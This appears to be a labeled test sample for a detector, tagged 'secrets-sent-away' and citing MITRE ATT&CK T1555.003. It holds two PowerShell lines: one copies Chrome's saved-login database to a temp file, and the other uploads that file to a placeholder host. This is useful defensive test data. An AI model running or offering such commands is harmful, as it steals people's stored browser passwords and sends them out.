# expect: secrets-sent-away | source: MITRE ATT&CK T1555.003
Copy-Item "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data" "$env:TEMP\d"
Invoke-RestMethod http://files.example.invalid/in -Method Put -InFile "$env:TEMP\d"
